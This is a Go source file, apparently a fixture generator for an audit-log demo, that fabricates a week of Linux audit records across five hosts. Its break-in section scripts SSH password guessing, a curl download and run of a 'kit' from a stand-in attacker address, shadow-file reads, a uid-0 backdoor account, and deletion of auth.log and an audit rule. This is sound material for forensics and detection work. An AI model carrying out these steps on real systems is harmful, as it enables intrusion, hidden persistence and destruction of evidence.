package main

import (
	"fmt"
	"slices"
	"time"

	"github.com/auditfleet/auditfleet/internal/madeday"
)

// The week of the demo, Monday to Friday, and its hosts.
var (
	monday = time.Date(2026, 11, 16, 0, 0, 0, 0, time.UTC)
	hosts  = []string{"bastion", "web1", "web2", "db1", "build1"}
)

const days = 5

// teller writes down what happens.
type teller struct{ all []madeday.Happening }

// at has records be an event on a host, at a time of a day: 1 is Monday.
func (t *teller) at(day int, clock, host string, records []string) {
	d, err := time.Parse("15:04:05", clock)
	if err != nil {
		panic(err) // a constant of this file
	}
	when := monday.AddDate(0, 0, day-1).Add(time.Duration(d.Hour())*time.Hour + time.Duration(d.Minute())*time.Minute + time.Duration(d.Second())*time.Second)
	t.all = append(t.all, madeday.Happening{Host: host, At: when, Records: records})
}

// story is what makes the week worth asking about.
func story() []madeday.Happening {
	var t teller
	t.administration()
	t.breakIn()
	t.aftermath()
	slices.SortStableFunc(t.all, func(a, b madeday.Happening) int { return a.At.Compare(b.At) })
	return t.all
}

// login is a login by ssh from an address, until a time. What the session does is its shell's, whose process it returns.
func (t *teller) login(day int, from, until, host string, who account, ses uint32, pid int, addr, tty string) process {
	p := sshd(who, ses, pid)
	t.at(day, from, host, []string{fmt.Sprintf("LOGIN pid=%d uid=0 subj=unconfined old-auid=4294967295 auid=%d tty=(none) old-ses=4294967295 ses=%d res=1", pid, who.id, ses) +
		enriched + fmt.Sprintf(`UID="root" OLD-AUID="unset" AUID="%s"`, who.name)})
	opens := fmt.Sprintf(`acct="%s" exe="/usr/sbin/sshd" hostname=%s addr=%[2]s terminal=ssh res=success`, who.name, addr)
	t.at(day, from, host, p.says("USER_START", "op=PAM:session_open grantors=pam_permit,pam_unix %s", opens))
	in := p.says("USER_LOGIN", `op=login id=%d exe="/usr/sbin/sshd" hostname=%s addr=%[2]s terminal=/dev/%s res=success`, who.id, addr, tty)
	in[0] += fmt.Sprintf(` ID="%s"`, who.name)
	t.at(day, from, host, in)
	t.at(day, until, host, p.says("USER_END", "op=PAM:session_close grantors=pam_permit,pam_unix %s", opens))
	return session(who, ses, pid+2, tty)
}

const passwd = `op=%s id=%d exe="/usr/sbin/%s" hostname=%s addr=? terminal=pts/0 res=success`

// administration is what people do who may.
func (t *teller) administration() {
	for day := 1; day <= days; day++ {
		minute := fmt.Sprintf(":%02d:%02d", 40+day, 7*day)
		for i, who := range []account{alice, bob, carol} {
			t.login(day, fmt.Sprintf("0%d", 7+i)+minute, fmt.Sprintf("1%d", 6+i)+minute, "bastion", who, uint32(10*day+i), 3000+100*day+10*i, fmt.Sprintf("10.0.0.%d", 20+i), fmt.Sprintf("pts/%d", i))
		}
	}
	a := t.login(1, "09:12:04", "09:40:51", "web1", alice, 12, 4098, "10.0.0.2", "pts/0")
	t.at(1, "09:12:40", "web1", a.run(4122, "/usr/bin/sudo").sudo("systemctl reload nginx", "success"))
	t.at(1, "09:12:41", "web1", a.as(root).run(4123, "/usr/bin/systemctl").exec("systemctl", "reload", "nginx"))

	b := t.login(2, "10:01:30", "10:20:02", "build1", bob, 31, 5198, "10.0.0.2", "pts/0")
	t.at(2, "10:02:10", "build1", b.run(5211, "/usr/bin/sudo").sudo("useradd -m dave", "success"))
	useradd := b.as(root).run(5212, "/usr/sbin/useradd")
	t.at(2, "10:02:11", "build1", useradd.exec("useradd", "-m", "dave"))
	t.at(2, "10:02:12", "build1", useradd.open("/etc/passwd", "0100644", 5, "identity", root, "useradd", "-m", "dave"))
	t.at(2, "10:02:13", "build1", useradd.says("ADD_USER", passwd, "adding user", 1005, "useradd", "build1"))

	c := t.login(2, "14:38:12", "15:02:44", "db1", carol, 17, 6298, "10.0.0.2", "pts/2")
	t.at(2, "14:40:55", "db1", c.run(6340, "/usr/bin/cat").open("/etc/shadow", "0100640", -13, "shadow", root, "cat", "/etc/shadow"))
	t.at(2, "14:41:20", "db1", c.run(6341, "/usr/bin/sudo").says("USER_AUTH", `op=PAM:authentication grantors=? acct="carol" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/2 res=failed`))
}

// breakIn is a guessed password, and what came of it.
func (t *teller) breakIn() {
	tries := []struct{ clock, acct string }{{"02:11:02", "root"}, {"02:11:07", "admin"}, {"02:12:02", "root"}, {"02:12:07", "postgres"}, {"02:13:02", "deploy"}, {"02:13:07", "deploy"}}
	for i, try := range tries {
		p := service(root, 7000+i, "/usr/sbin/sshd")
		t.at(3, try.clock, "bastion", p.says("USER_LOGIN", `op=login acct="%s" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed`, try.acct))
	}
	shell := t.login(3, "02:14:31", "02:18:40", "bastion", deploy, 212, 7010, "203.0.113.9", "pts/4")
	t.at(3, "02:15:02", "bastion", shell.run(7021, "/usr/bin/ssh").exec("ssh", "web1"))

	shell = t.login(3, "02:15:04", "02:18:39", "web1", deploy, 77, 8100, "10.0.0.2", "pts/1")
	t.at(3, "02:15:09", "web1", shell.run(8111, "/usr/bin/id").exec("id"))
	t.at(3, "02:15:21", "web1", shell.run(8112, "/usr/bin/cat").open("/etc/shadow", "0100640", -13, "shadow", root, "cat", "/etc/shadow"))
	t.at(3, "02:15:40", "web1", shell.run(8113, "/usr/bin/sudo").sudo("id", "failed"))
	t.at(3, "02:16:12", "web1", shell.run(8120, "/usr/bin/curl").exec("curl", "-so", "/tmp/.x/kit", "http://203.0.113.9/kit"))
	t.at(3, "02:16:18", "web1", shell.run(8121, "/usr/bin/chmod").exec("chmod", "+x", "/tmp/.x/kit"))
	kit := shell.run(8122, "/tmp/.x/kit")
	t.at(3, "02:16:20", "web1", kit.exec("/tmp/.x/kit"))
	sh := kit.as(root).run(8123, "/usr/bin/dash")
	t.at(3, "02:16:21", "web1", sh.exec("sh"))
	t.at(3, "02:16:30", "web1", sh.run(8124, "/usr/bin/cat").open("/etc/shadow", "0100640", 3, "shadow", root, "cat", "/etc/shadow"))
	useradd := sh.run(8125, "/usr/sbin/useradd")
	t.at(3, "02:16:48", "web1", useradd.exec("useradd", "-o", "-u", "0", "svc"))
	t.at(3, "02:16:49", "web1", useradd.says("ADD_USER", passwd, "adding user", 0, "useradd", "web1"))
	t.at(3, "02:17:05", "web1", []string{`ANOM_PROMISCUOUS dev=eth0 prom=256 old_prom=0 auid=1004 uid=0 gid=0 ses=77` + enriched + `AUID="deploy" UID="root" GID="root"`})
	t.at(3, "02:17:30", "web1", sh.run(8126, "/usr/bin/rm").remove("/var/log/auth.log", "delete", root, "rm", "/var/log/auth.log"))
	t.at(3, "02:17:44", "web1", []string{`CONFIG_CHANGE auid=1004 ses=77 subj=unconfined op=remove_rule key="shadow" list=4 res=1` + enriched + `AUID="deploy"`})
}

// aftermath is the morning after.
func (t *teller) aftermath() {
	a := t.login(3, "08:30:20", "09:15:00", "web1", alice, 15, 9098, "10.0.0.2", "pts/0")
	t.at(3, "08:31:10", "web1", a.run(9120, "/usr/bin/sudo").sudo("userdel svc", "success"))
	t.at(3, "08:31:11", "web1", a.as(root).run(9121, "/usr/sbin/userdel").says("DEL_USER", passwd, "deleting user", 0, "userdel", "web1"))
	t.at(3, "08:40:02", "web1", []string{`CONFIG_CHANGE auid=1000 ses=15 subj=unconfined op=add_rule key="shadow" list=4 res=1` + enriched + `AUID="alice"`})
	crash := `ANOM_ABEND auid=1001 uid=1001 gid=1001 ses=35 subj=unconfined pid=10220 comm="shop" exe="/home/bob/shop/shop" sig=11 res=1`
	b := t.login(4, "16:02:01", "17:20:30", "build1", bob, 35, 10198, "10.0.0.2", "pts/0")
	t.at(4, "16:05:33", "build1", []string{crash + enriched + `AUID="bob" UID="bob" GID="bob"`})
	t.at(4, "16:20:09", "build1", b.run(11210, "/usr/bin/rm").remove("/home/bob/shop/old.c", "delete", bob, "rm", "old.c"))
}
